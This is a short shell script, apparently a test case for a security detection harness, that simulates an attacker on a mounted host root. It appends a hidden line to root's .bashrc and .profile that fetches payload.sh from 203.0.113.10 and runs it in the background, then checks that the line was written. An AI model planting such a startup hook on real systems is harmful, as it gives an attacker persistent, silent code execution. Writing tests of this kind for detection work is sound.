#!/bin/sh
. /opt/case/case.sh

cd /host/root
echo '(wget -qO- http://203.0.113.10/payload.sh | sh &) 2>/dev/null' | tee -a .bashrc .profile >/dev/null
grep -q payload /host/root/.bashrc
took_place
